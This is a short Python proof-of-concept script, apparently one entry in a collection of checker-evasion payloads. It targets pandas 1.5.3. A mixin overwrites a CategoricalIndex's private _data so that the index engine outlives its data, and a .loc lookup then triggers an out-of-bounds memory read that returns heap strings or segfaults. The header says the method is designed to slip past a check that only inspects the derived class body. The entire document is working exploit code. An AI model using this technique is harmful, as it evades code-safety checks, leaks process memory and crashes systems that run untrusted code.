# source: mixin/MRO private-name injection; pandas 1.5.3 take_nd (cython, boundscheck off) over a stale index engine
# family: plain mixin of the script writes a private attribute (_data) of a library-derived class (CategoricalIndex); the check only vets the derived class body
# goal: index engine longer than the data -> out-of-bounds object read (heap string returned, segfault)
import numpy as np
import pandas as pd


class Swap:
    def swap(self, v):
        self._data = v


class Labels(Swap, pd.CategoricalIndex):
    pass


cats = list(range(100000))
small = Labels(pd.Categorical([0], categories=cats))
ser = pd.Series(np.array(["x"], dtype=object), index=small)
small.swap(pd.Categorical(cats, categories=cats))
print(len(ser.index), ser.index is small)
print(ser.loc[[1, 2, 3, 500, 99999]])
